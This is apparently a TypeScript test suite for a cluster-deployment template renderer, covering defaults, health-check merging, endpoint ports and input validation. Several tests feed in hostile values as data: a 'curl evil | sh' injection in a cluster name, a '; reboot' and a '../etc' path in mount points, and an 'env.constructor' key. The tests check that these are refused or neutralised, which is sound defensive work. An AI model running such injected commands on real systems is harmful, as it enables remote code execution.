import { describe, expect, it } from "vitest";
import { loadFiles, paperWith, readGood } from "./real-packages.ts";
import { render } from "./render.ts";
import { checkValues } from "./values.ts";

/** A package with the paper's form and this deployment; answers the rendered cluster or its faults as `pointer: detail`. */
function deploy(fields: string, answers: object = {}) {
  const template = `{"name": {{cluster.name}}, "subnet": {{cluster.subnet}}, ${fields}}`;
  const pkg = { ...readGood(loadFiles("paper")), template };
  const checked = checkValues(pkg, { cluster: { subnet: "subnet-1", ...answers } });
  if (!checked.ok) throw new Error(JSON.stringify(checked.faults));
  const result = render(pkg, checked.values);
  return result.ok ? result.cluster : result.faults.map(({ pointer, detail }) => `${pointer}: ${detail}`);
}

const node = (fields = "") =>
  `{"container": {"image": "img"}, "count": {{cluster.zk_node.count}}, "cpu": 1, "memory": 512${fields === "" ? "" : `, ${fields}`}}`;
const nodes = (...groups: readonly string[]) => `"nodes": [${groups.join(",")}]`;

describe("render", () => {
  it("fills in what the format has defaults for", () => {
    expect(deploy(nodes(node('"volume": {"size": 20}, "services": {"start": {"cmd": "run"}}')))).toMatchObject({
      description: "",
      roles: [
        {
          role: "",
          container: { type: "kvm", image: "img" },
          volume: { size: 20, mountPoints: ["/data"], filesystem: "ext4", options: "defaults,noatime" },
          services: { start: { run: { argv: ["run"] }, order: 0, timeoutSeconds: 600, allowForce: true } },
          verticalScaling: "parallel",
          agentInstalled: true,
        },
      ],
    });
  });

  it("keeps a list of mount points, drops a volume of size 0, and reads quoted numbers", () => {
    expect(
      deploy(nodes(node('"volume": {"size": "20", "mount_point": ["/a", "/b/"], "filesystem": "xfs"}'))),
    ).toMatchObject({
      roles: [
        {
          volume: {
            size: 20,
            mountPoints: ["/a", "/b"],
            filesystem: "xfs",
            options: "rw,noatime,inode64,allocsize=16m",
          },
        },
      ],
    });
    expect(deploy(nodes(node('"volume": {"size": 0}')))).not.toHaveProperty("roles.0.volume");
  });

  it("merges a role's health check over the deployment's, field by field", () => {
    const cluster = deploy(
      `"health_check": {"enable": true, "check_cmd": "check all", "interval_sec": 120}, ${nodes(node('"health_check": {"timeout_sec": 5, "action_cmd": "a; b"}'))}`,
    );
    expect(cluster).toMatchObject({
      roles: [
        {
          healthCheck: {
            enabled: true,
            intervalSeconds: 120,
            timeoutSeconds: 5,
            actionTimeoutSeconds: 30,
            check: { argv: ["check", "all"] },
            action: { shell: "a; b" },
          },
        },
      ],
    });
  });

  it("reads an endpoint's port from env, and leaves reserved addresses aside", () => {
    const env = '"env": {"web.port": 8080, "t": "90"}';
    const endpoints =
      '"endpoints": {"a": {"port": "env.web.port"}, "b": {"port": "r.env.x", "protocol": "udp"}, "c": {"port": "env.t"}, "d": {"port": "53"}, "reserved_ips": {"vip": {"value": ""}}}';
    expect(deploy(`${env}, ${endpoints}, ${nodes(node('"role": "r", "env": {"x": 7}'))}`)).toMatchObject({
      endpoints: {
        a: { port: 8080, protocol: "tcp" },
        b: { port: 7, protocol: "udp" },
        c: { port: 90, protocol: "tcp" },
        d: { port: 53, protocol: "tcp" },
      },
    });
    expect(deploy(`"endpoints": {"a": {"port": "env.constructor"}}, ${nodes(node())}`)).toEqual([
      'cluster.json.tmpl#/endpoints/a/port: The endpoint "a" has no port between 1 and 65535.',
    ]);
  });

  it("keeps fields that it does not know", () => {
    expect(deploy(`"need_tag": true, ${nodes(node('"cpu_model": "Broadwell"'))}`)).toMatchObject({
      rest: { need_tag: true },
      roles: [{ rest: { cpu_model: "Broadwell" } }],
    });
  });

  it("never lets a shell run what a user typed", () => {
    const payload = "x; curl evil | sh";
    expect(
      deploy(
        nodes(
          node(
            '"services": {"start": {"cmd": {{cluster.name}}, "shell": true}, "init": {"cmd": "echo {{cluster.name}}"}}',
          ),
        ),
        { name: payload },
      ),
    ).toMatchObject({
      roles: [
        {
          services: {
            start: { run: { argv: ["x;", "curl", "evil", "|", "sh"] } },
            init: { run: { argv: ["echo", payload] } },
          },
        },
      ],
    });
    expect(deploy(nodes(node('"services": {"start": {"cmd": "cd /x; run {{cluster.name}}"}}')))).toEqual([
      "/cluster/name: A command that needs a shell holds a placeholder.",
    ]);
  });

  it("does not let a whole section smuggle a shell command in", () => {
    const pkg = readGood(loadFiles("paper"));
    const template =
      '{"name": "n", "subnet": "s", "nodes": [{"container": {"image": "i"}, "count": 1, "cpu": 1, "memory": 1, "services": {"start": {{cluster.zk_node}}}}]}';
    const result = render({ ...pkg, template }, { cluster: { zk_node: { cmd: "a; b", shell: true } } });
    expect(result).toMatchObject({
      ok: true,
      cluster: { roles: [{ services: { start: { run: { argv: ["a;", "b"] } } } }] },
    });
  });

  it.each<[string, string[]]>([
    [nodes(), ["cluster.json.tmpl#/nodes: Too small: expected array to have >=1 items (cluster.json.tmpl#/nodes)"]],
    [
      nodes(node('"role": "a"'), node('"role": "a"')),
      ['cluster.json.tmpl#/nodes/1/role: Two node groups have the role "a".'],
    ],
    [nodes(node('"role": "a"'), node()), ["cluster.json.tmpl#/nodes/1/role: One of several node groups has no role."]],
    [
      nodes('{"container": {"image": "i"}, "count": 0, "cpu": 1, "memory": 1}'),
      ["cluster.json.tmpl#/nodes/0/count: The deployment would have no node."],
    ],
  ])("refuses %s", (fields, expected) => {
    expect(deploy(fields)).toEqual(expected);
  });

  it.each([
    '"role": "a-replica"',
    '"volume": {"size": 1, "mount_point": "/a/../etc"}',
    '"volume": {"size": 1, "mount_point": "/a b; reboot"}',
    '"volume": {"size": 1, "mount_point": ["/a","/b","/c","/d"]}',
    '"volume": {"size": 1, "mount_options": "a b"}',
    '"services": {"start": {}}',
    '"services": {"start": {"cmd": ""}}',
    '"services": {"start": {"cmd": "a", "timeout": 90000}}',
    '"health_check": {"interval_sec": 10}',
    '"health_check": {"timeout_sec": 70}',
    '"gpu": -1',
    '"replica": 21',
  ])("refuses a node group with %s", (fields) => {
    expect(deploy(nodes(node(fields)))).toEqual([expect.stringMatching(/^cluster\.json\.tmpl#\/nodes\/0\//)]);
  });

  it("points to the answer that caused a fault", () => {
    const pkg = readGood(paperWith({}));
    const checked = checkValues(pkg, { cluster: { subnet: "s", zk_node: { volume_size: -1 } } });
    if (!checked.ok) throw new Error(JSON.stringify(checked.faults));
    expect(render(pkg, checked.values)).toMatchObject({
      ok: false,
      faults: [{ pointer: "/cluster/zk_node/volume_size" }],
    });
    expect(deploy(nodes(node()).replace("{{cluster.subnet}}", "1"), { subnet: "s" })).toHaveProperty("subnet", "s");
  });

  it("refuses a deployment without a subnet", () => {
    const pkg = { ...readGood(loadFiles("paper")), template: `{"name": "n", ${nodes(node())}}` };
    expect(render(pkg, { cluster: { zk_node: { count: 1 } } })).toMatchObject({
      ok: false,
      faults: [{ pointer: "cluster.json.tmpl#/subnet" }],
    });
  });
});
